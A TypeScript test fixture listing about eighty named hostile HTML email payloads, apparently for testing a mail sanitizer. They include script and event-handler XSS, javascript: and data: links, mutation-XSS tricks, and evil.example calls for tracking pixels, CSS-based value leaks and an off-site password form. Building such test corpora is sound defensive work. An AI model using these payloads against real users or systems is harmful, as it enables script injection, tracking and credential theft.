/** Letters written to harm whoever opens them. Hosts are openly fictional. */
export interface HostileLetter {
  readonly trick: string;
  readonly html: string;
}

export const HOSTILE: readonly HostileLetter[] = [
  letter('script element', '<p>a</p><script>alert(1)</script>'),
  letter('script with a remote source', '<script src=//evil.example/x.js></script>'),
  letter('script split by a null', '<scr\0ipt>alert(1)</scr\0ipt>'),
  letter('script inside script', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
  letter('script in upper case with spaces', '<SCRIPT >alert(1)</SCRIPT >'),
  letter('unclosed script', '<script>alert(1)'),
  letter('event on an image', '<img src=x onerror=alert(1)>'),
  letter('event with a slash for a space', '<img/src="x"/onerror=alert(1)>'),
  letter('event on body', '<body onload=alert(1)><p>x</p></body>'),
  letter('event on a details element', '<details open ontoggle=alert(1)>x</details>'),
  letter('event hidden by a line break', '<p on\nclick=alert(1)>x</p>'),
  letter('event in an attribute closed early', '<a href="x"onmouseover="alert(1)">x</a>'),
  letter('javascript link', '<a href="javascript:alert(1)">x</a>'),
  letter('javascript link with entities', '<a href="jav&#x09;ascript&colon;alert(1)">x</a>'),
  letter('javascript link with a control character', '<a href="\u0001javascript:alert(1)">x</a>'),
  letter('javascript link in capitals and spaces', '<a href="  JaVaScRiPt:alert(1)">x</a>'),
  letter('vbscript link', '<a href="vbscript:msgbox(1)">x</a>'),
  letter('data link holding a page', '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
  letter('file link', '<a href="file:///etc/passwd">x</a>'),
  letter('relative link into the portal', '<a href="/api/auth/signout">x</a>'),
  letter('protocol-relative link', '<a href="//evil.example">x</a>'),
  letter('remote image', '<img src="https://evil.example/track.gif">'),
  letter('protocol-relative image', '<img src="//evil.example/track.gif">'),
  letter('image set', '<img srcset="https://evil.example/a.png 2x" src="cid:logo@valmont">'),
  letter(
    'picture with a source',
    '<picture><source srcset="https://evil.example/a.webp"><img src="x"></picture>',
  ),
  letter('image with a data page', '<img src="data:text/html;base64,PHNjcmlwdD4=">'),
  letter('image with a data SVG', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
  letter('table background', '<table background="https://evil.example/b.png"><tr><td>x</td></tr></table>'),
  letter('body background', '<body background="https://evil.example/b.png">x</body>'),
  letter('lowsrc and dynsrc', '<img lowsrc="https://evil.example/a" dynsrc="https://evil.example/b">'),
  letter(
    'video poster',
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
  ),
  letter('audio autoplay', '<audio autoplay src="https://evil.example/a.mp3"></audio>'),
  letter('style element with an import', '<style>@import url(https://evil.example/x.css);</style>'),
  letter(
    'style element that reads attributes',
    '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
  ),
  letter('style with a remote background', '<p style="background:url(https://evil.example/b.png)">x</p>'),
  letter('style with an escaped url', '<p style="background-image:\\75\\72\\6c(//evil.example/a)">x</p>'),
  letter('style with an expression', '<p style="width:expression(alert(1))">x</p>'),
  letter('style with a binding', '<p style="-moz-binding:url(//evil.example/x.xml#a)">x</p>'),
  letter('style with a behaviour', '<p style="behavior:url(x.htc)">x</p>'),
  letter(
    'style covering the page',
    '<a href="https://evil.example" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  ),
  letter(
    'style with a comment inside a word',
    '<p style="color:re/**/d;background:u/**/rl(//evil.example)">x</p>',
  ),
  letter('style with a variable', '<p style="--a:url(//evil.example);background:var(--a)">x</p>'),
  letter('style with image-set', '<p style="background:image-set(\'//evil.example/a\' 1x)">x</p>'),
  letter('list with a remote bullet', '<ul style="list-style:url(//evil.example/b.png)"><li>x</li></ul>'),
  letter('remote style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  letter(
    'prefetch and preconnect',
    '<link rel="dns-prefetch" href="//evil.example"><link rel=preload as=image href=//evil.example/a>',
  ),
  letter('meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
  letter('base element', '<base href="https://evil.example/"><a href="x">x</a>'),
  letter(
    'form asking for a password',
    '<form action="https://evil.example"><input name=p type=password><button>OK</button></form>',
  ),
  letter('button with a form action', '<button formaction="javascript:alert(1)">x</button>'),
  letter('iframe', '<iframe src="https://evil.example"></iframe>'),
  letter('iframe with its document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  letter(
    'object and embed',
    '<object data="https://evil.example/x.swf"></object><embed src="//evil.example/x">',
  ),
  letter('frameset', '<frameset><frame src="https://evil.example"></frameset>'),
  letter('SVG with a script', '<svg><script>alert(1)</script></svg>'),
  letter('SVG with an event', '<svg onload=alert(1)><circle/></svg>'),
  letter('SVG that uses another', '<svg><use href="https://evil.example/x.svg#a"/></svg>'),
  letter(
    'SVG that animates a link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  ),
  letter('MathML link', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
  letter(
    'mutation through noscript',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ),
  letter('mutation through a style in SVG', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
  letter(
    'mutation through MathML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ),
  letter(
    'mutation through a form in a table',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ),
  letter(
    'mutation through a textarea',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  ),
  letter('mutation through a title', '<title><img title="</title><img src=x onerror=alert(1)>">'),
  letter('xmp holding a tag', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
  letter('comment closed early', '<!--><img src=x onerror=alert(1)>-->'),
  letter('conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'),
  letter('CDATA', '<![CDATA[><script>alert(1)</script>]]>'),
  letter('processing instruction', '<?xml-stylesheet href="https://evil.example/x.xsl"?><p>x</p>'),
  letter(
    'names that shadow the page’s own',
    '<img name="getElementById"><a id="location">x</a><p class="session">x</p>',
  ),
  letter(
    'link target and ping',
    '<a href="https://evil.example" target="_top" ping="https://evil.example/p" download>x</a>',
  ),
  letter(
    'image map',
    '<img usemap="#m" src="cid:logo@valmont"><map name="m"><area href="javascript:alert(1)"></map>',
  ),
  letter('isindex and keygen', '<isindex action="javascript:alert(1)"><keygen autofocus onfocus=alert(1)>'),
  letter('marquee', '<marquee onstart=alert(1)>x</marquee>'),
  letter('template holding a script', '<template><script>alert(1)</script></template>'),
  letter('custom element', '<x-evil onclick=alert(1) data-x="<script>">x</x-evil>'),
  letter(
    'alternative text that is a tag',
    '<img src="https://evil.example" alt="<script>alert(1)</script>">',
  ),
  letter('entity for a bracket', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'),
  letter('cid that is not in the letter', '<img src="cid:other@valmont" onerror=alert(1)>'),
  letter('cid with a page behind', '<a href="cid:logo@valmont">x</a>'),
  letter('namespaced tag', '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>'),
  letter('overlong attribute', `<p style="${'color:red;'.repeat(2000)}background:url(//evil.example)">x</p>`),
];

function letter(trick: string, html: string): HostileLetter {
  return { trick, html };
}
